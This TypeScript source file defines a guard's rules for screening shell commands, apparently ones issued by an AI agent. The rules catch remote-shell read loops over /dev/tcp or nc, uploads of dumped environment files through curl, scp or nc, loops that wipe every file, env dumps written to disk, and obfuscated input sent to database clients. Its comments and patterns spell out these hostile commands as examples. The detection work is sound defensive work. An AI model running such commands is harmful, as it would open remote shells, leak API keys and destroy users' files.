/**
 * Round 7 rules: the environment staged in a file, and database clients fed text a decoder produced. Each names
 * a class of evasion rather than one spelling (see docs/GUARDS.md, "Round 7").
 */
import type { Arg, Invocation } from '../shell/invocation.js';
import { staticValue } from '../shell/words.js';
import { resolveLexical } from '../paths.js';
import { NETWORK } from '../shell/commands.js';
import { socketRedirect, socketSink, uploadSink } from './sinks.js';
import type { Rule, RuleContext } from './types.js';

/** Commands that print every variable with its value. */
function dumpsEnv(inv: Invocation): boolean {
  const v = inv.args.map((a) => a.value);
  if (v.some((x) => x === null)) return false;
  const args = v as string[];
  switch (inv.name) {
    case 'env':
    case 'printenv':
      return args.every((a) => /^(?:-0|--null|-i|--ignore-environment|-)$/.test(a));
    case 'export':
      return args.length > 0 && args.every((a) => a === '-p');
    case 'declare':
    case 'typeset':
      return args.length > 0 && args.every((a) => /^-[xp]+$/.test(a));
    case 'set':
      return args.length === 0;
    default:
      return false;
  }
}

/** Pipeline stages that pass the values on (sorted, filtered by line, encoded), unlike `cut -d= -f1` or `wc`. */
const KEEPS_VALUES = new Set([
  'sort',
  'uniq',
  'tee',
  'cat',
  'base64',
  'gzip',
  'xxd',
  'od',
  'tr',
  'head',
  'tail',
]);

/** A file that `inv`'s standard output goes to (`> f`, `>> f`), other than /dev/null and the terminal. */
function fileTarget(inv: Invocation): string | null {
  for (const r of inv.redirs) {
    if (!r.target || r.heredoc || (r.fd !== null && r.fd !== '1') || !/^(?:>|>>|>\||&>|&>>)$/.test(r.op))
      continue;
    const t = staticValue(r.target);
    if (t === null || !/^\/dev\/(?:null|stdout|stderr|tty|fd\/[12])$/.test(t)) return t ?? '(computed)';
  }
  if (inv.name === 'tee') {
    const f = inv.args.find((a) => a.value === null || !a.value.startsWith('-'));
    if (f) return f.value ?? f.text;
  }
  return null;
}

const OBFUSCATORS = new Set(['base64', 'base32', 'basenc', 'xxd', 'uudecode', 'rev', 'openssl']);
const DB_CLIENTS = [
  'psql',
  'mysql',
  'mariadb',
  'sqlite3',
  'sqlite',
  'duckdb',
  'clickhouse-client',
  'cockroach',
  'sqlcmd',
  'usql',
  'pgcli',
  'mycli',
  'redis-cli',
  'valkey-cli',
  'mongosh',
  'mongo',
  'cqlsh',
];

/** The decoder whose output a database client runs: its stdin, or a substitution in its arguments. */
function decodedInput(inv: Invocation): string | null {
  if (inv.stdin?.kind === 'decoded') {
    const up = inv.upstream[inv.upstream.length - 1];
    if (up && OBFUSCATORS.has(up.name)) return up.display;
    if (/^(?:printf with escapes|echo -e)$/.test(inv.stdin.desc)) return inv.stdin.desc;
    if (!up && OBFUSCATORS.has(inv.stdin.desc.split(' ')[0]!)) return inv.stdin.desc;
  }
  const sub = inv.subs.find((s) => OBFUSCATORS.has(s.name));
  return sub ? `$(${sub.display})` : null;
}

/** Logs and scratch files may be emptied one by one, as `truncate -s 0 *.log` may. */
const SCRATCH = /\.(?:log|out|err)$|^\/tmp\/|^\/var\/tmp\//;
const PLAIN_VAR = /^"?\$\{?[A-Za-z_]\w*\}?"?$/;

/** An argument that stands for every file of a loop (`$f` over a glob, or over a command's output). */
function eachFile(inv: Invocation, a: Arg, text = a.text, value = a.value): boolean {
  if (value !== null) return a.glob && /[*?[]/.test(value) && !SCRATCH.test(value);
  return inv.subs.length > 0 && PLAIN_VAR.test(text);
}

/** What overwrites every file of a loop: `dd of="$f"`, `cp SRC "$f"`, `CMD > "$f"`, or null. */
function overwritesEach(inv: Invocation): string | null {
  if (inv.name === 'dd') {
    for (const a of inv.args) {
      const v = a.value;
      if (!a.text.startsWith('of=')) continue;
      if (eachFile(inv, a, a.text.slice(3), v === null ? null : v.slice(3))) return `dd ${a.text}`;
      if (inv.via.some((x) => x.startsWith('find -exec')) && a.text.includes('{}'))
        return `find -exec dd ${a.text}`;
    }
  }
  if (inv.name === 'cp' || inv.name === 'install') {
    const ops = inv.args.filter((a) => a.value === null || !a.value.startsWith('-'));
    const dest = ops[ops.length - 1];
    // the loop's file is the destination (`cp /dev/null "$f"`); copying each file to a name derived from it
    // (`cp "$f" "$f.bak"`) keeps the original
    const src = ops[0];
    const derived = (x: Arg, y: Arg) =>
      x.text === y.text || (x.value !== null && y.value !== null && y.value.startsWith(x.value));
    if (ops.length === 2 && dest && src && eachFile(inv, dest) && !derived(src, dest))
      return `${inv.name} ${ops[0]!.text} ${dest.text}`;
  }
  if (inv.targetFed) {
    const r = inv.redirs.find(
      (x) => (x.op === '>' || x.op === '>|') && x.target && PLAIN_VAR.test(x.target.raw),
    );
    if (r) return `${inv.name} > ${r.target!.raw}`;
  }
  return null;
}

/** Files an environment dump earlier in the same command wrote (`env > /tmp/e.txt`), absolute. */
function envFiles(ctx: RuleContext): string[] {
  const out: string[] = [];
  for (const inv of ctx.script ?? []) {
    if (!dumpsEnv(inv)) continue;
    const targets = [inv, ...inv.downstream.filter((d) => KEEPS_VALUES.has(d.name))].map(fileTarget);
    for (const t of targets)
      if (t && t !== '(computed)') out.push(resolveLexical(t, { cwd: inv.cwd, home: ctx.home }));
  }
  return out;
}

/** A sender naming one of those files (`curl -F f=@/tmp/e.txt`, `scp /tmp/e.txt host:`, `nc h p < /tmp/e.txt`). */
function sendsEnvFile(inv: Invocation, ctx: RuleContext): string | false {
  if (!(NETWORK.has(inv.name) && inv.name !== 'openssl') && !uploadSink(inv) && !socketSink(inv, ctx))
    return false;
  const files = envFiles(ctx);
  if (files.length === 0) return false;
  const named = [
    ...inv.args.map((a) => a.value ?? ''),
    ...inv.redirs.filter((r) => r.op === '<' && r.target).map((r) => staticValue(r.target!) ?? ''),
  ];
  for (const v of named) {
    const m = /(?:^|[=@<])([^=@<]+)$/.exec(v);
    const p = m ? resolveLexical(m[1]!.replace(/;.*$/, ''), { cwd: inv.cwd, home: ctx.home }) : null;
    if (p && files.includes(p)) return `${inv.name} sends ${m![1]}, the environment dumped above`;
  }
  return false;
}

/** Where a `read` gets network lines from: its stdin, a pipeline stage before it, or a redirect (its own or its loop's). */
function networkFeed(read: Invocation, ctx: RuleContext, loopRedirs: readonly Invocation[]): string | null {
  if (read.stdin?.kind === 'network') return read.stdin.desc;
  const own = socketRedirect(read, ctx);
  if (own) return own;
  for (const up of read.upstream) {
    if (NETWORK.has(up.name) && up.name !== 'openssl') return up.name;
    const h = socketRedirect(up, ctx);
    if (h) return h;
  }
  for (const r of loopRedirs) {
    const h = socketRedirect(r, ctx);
    if (h) return h;
  }
  return null;
}

/** The names a `read` assigns. */
/** The builtins that store lines of their stdin in variables. */
const LINE_READERS = new Set(['read', 'mapfile', 'readarray']);

function readNames(inv: Invocation): string[] {
  const names = inv.args.map((a) => a.value ?? '').filter((v) => /^[A-Za-z_]\w*$/.test(v));
  return names.length > 0 ? names : [inv.name === 'read' ? 'REPLY' : 'MAPFILE'];
}

/**
 * `exec 3<>/dev/tcp/h/p; while read c <&3; do $c; done`, `nc h p | while read c; do eval "$c"; done`,
 * `mapfile -t a < <(curl …); "${a[@]}"`: lines read from the network run as commands (a command word, `eval`, `sh -c`). The loop's own redirect shows up as the
 * `:` the walker records for a compound command.
 */
function runsNetworkLines(inv: Invocation, ctx: RuleContext): string | false {
  if (!inv.dynamic && !inv.evalDynamic) return false;
  const script = ctx.script ?? [];
  const loopRedirs = script.filter((i) => i.name === ':' && i.redirs.length > 0 && i.args.length === 0);
  for (const r of script) {
    if (!LINE_READERS.has(r.name)) continue;
    const src = networkFeed(r, ctx, loopRedirs);
    if (!src) continue;
    const uses = readNames(r).some((n) => new RegExp(`\\$\\{?${n}\\b`).test(inv.display));
    if (uses) return `lines read from ${src} run by ${inv.name || inv.display}`;
  }
  return false;
}

export const round7Rules: Rule[] = [
  {
    id: 'exec.network-read-loop',
    pack: 'exec',
    reason: 'runs lines read from the network as commands (a remote shell); ask the user',
    match: runsNetworkLines,
  },
  {
    id: 'exfil.env-file-upload',
    pack: 'exfil',
    reason:
      'sends a file holding the environment (API keys, tokens) over the network; send only the values that are needed',
    match: sendsEnvFile,
  },
  {
    id: 'fs.overwrite-each',
    pack: 'fs',
    reason:
      'overwrites every file of a glob or listing one by one (dd of="$f", cp /dev/null "$f"), wiping the checkout; edit files by name',
    match: (inv) => overwritesEach(inv) ?? false,
  },
  {
    id: 'cred.env-to-file',
    pack: 'cred',
    reason:
      'lockdown: writes every environment variable with its value (API keys, tokens) to a file; write only the variables you need',
    commands: ['env', 'printenv', 'export', 'declare', 'typeset', 'set'],
    // lockdown only: the standing policy lets a local snapshot of the environment be written
    // (guard-corpus.jsonl: `printenv | sort > /tmp/env-snapshot.txt` is a look-alike); sending it is exfil
    match: (inv, ctx) => {
      if (!ctx.lockdown || !dumpsEnv(inv)) return false;
      const own = fileTarget(inv);
      if (own) return `${inv.name} > ${own}`;
      for (const d of inv.downstream) {
        if (!KEEPS_VALUES.has(d.name)) return false;
        const t = fileTarget(d);
        if (t) return `${inv.name} | ${d.name} > ${t}`;
      }
      return false;
    },
  },
  {
    id: 'db.decoded-input',
    pack: 'db',
    reason: 'feeds a database client statements a decoder produced, unseen; write the statements out plainly',
    commands: DB_CLIENTS,
    match: (inv) => {
      const d = decodedInput(inv);
      return d ? `${d} → ${inv.name}` : false;
    },
  },
];
